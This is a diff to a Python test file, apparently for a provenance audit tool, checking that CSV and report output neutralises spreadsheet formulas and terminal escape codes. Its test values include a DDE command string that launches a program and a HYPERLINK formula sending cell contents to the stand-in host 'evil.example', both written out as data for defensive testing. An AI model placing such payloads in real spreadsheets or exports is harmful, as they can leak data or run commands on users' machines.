@@ -128,6 +128,14 @@ def test_csv_neutralises_formulas(tmp_path):
     assert row["article"] == "'=cmd|' /C calc'!A0" and row["title"] == "'@SUM(A1:A9)\\x1b]0;owned\\x07"
     assert "\x1b" not in result.stdout
     assert [safe_cell(v) for v in ("-1", "+x", "plain", "\tx")] == ["'-1", "'+x", "plain", "'\tx"]
+    # Every text cell, not a list of those that came from the pages (the crawl date was left off it).
+    from provenance.audit import AuditRow
+    from provenance.audit_report import display_row
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")\x1b]0;PWNED\x07'
+    shown = display_row(AuditRow(article="a", status="not derived", rank=0, url=None, title=None, published=hostile,
+                                 published_from=hostile, crawled=hostile))
+    assert all(not str(value).startswith("=") and "\x1b" not in str(value) for value in shown.values())
 
 
 def test_fail_above_exit_codes(site_dir):
